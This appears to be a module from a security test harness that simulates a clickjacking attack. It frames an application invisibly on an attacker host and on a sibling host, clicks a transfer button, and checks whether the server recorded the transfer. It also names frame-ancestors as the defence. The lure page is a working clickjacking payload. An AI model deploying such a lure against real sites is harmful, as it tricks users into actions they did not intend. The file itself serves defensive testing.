// Threat: a page shows the application in a transparent frame and lets the victim click where the button is. The attacker has a site and a
// sibling host. Expected: on another site the framed application has no cookies; on a sibling host it has, and only frame-ancestors helps.
import { stopped, succeeded, type Attack } from '../attack.ts'
import { APP, EVIL, SIBLING } from '../world/hosts.ts'

const page: NonNullable<Attack['lure']> = (_, app) => `<!doctype html><h1>Click!</h1>
<iframe src="${app}/" style="opacity: 0.05" width="600" height="700"></iframe>`

export const clickjack: Attack = {
  name: 'clickjack',
  group: 'other sites',
  title: 'Shows the application in a frame and steals a click',
  what: 'The attacker’s page puts the application into an invisible frame under the victim’s mouse. The victim believes to click on something else.',
  why: 'In a frame on a sibling host the application is as signed in as ever: it is the same site.',
  stops:
    'frame-ancestors in the policy of one’s pages (or X-Frame-Options). This is the page’s business; a library for tokens cannot set it.',
  lure: page,
  control: 'session',
  succeedsOn: ['session', 'local-storage', 'readable-cookie', 'httponly-cookie', 'tutorial', 'hallpass'],
  async run(scene) {
    await scene.signIn()
    const worked: string[] = []
    for (const site of ['evil', 'sibling'] as const) {
      const address = `${site === 'evil' ? EVIL : SIBLING}/game`
      scene.ledger.forget()
      await scene.thief.publish({ address, body: page(site, APP, scene.attacker) })
      const lure = await scene.browser.newPage()
      await lure.goto(address)
      const frame = lure.frameLocator('iframe')
      const shown = await frame
        .locator('#told')
        .filter({ hasText: 'ready' })
        .waitFor({ timeout: 4_000, state: 'attached' })
        .then(() => frame.locator('#transfer button').isVisible())
        .catch(() => false)
      if (!shown) continue
      await frame.locator('#transfer button').click()
      await frame
        .locator('#told')
        .filter({ hasText: 'sent' })
        .waitFor({ timeout: 4_000 })
        .catch(() => undefined)
      if (scene.ledger.find({ deed: 'transfer', by: scene.victim.email }).length > 0)
        worked.push(new URL(address).hostname)
    }
    return worked.length > 0
      ? succeeded(`the server counted a transfer, clicked in a frame on ${worked.join(' and ')}`)
      : stopped('in frames on evil.test and blog.app.test there was no button to click')
  },
}
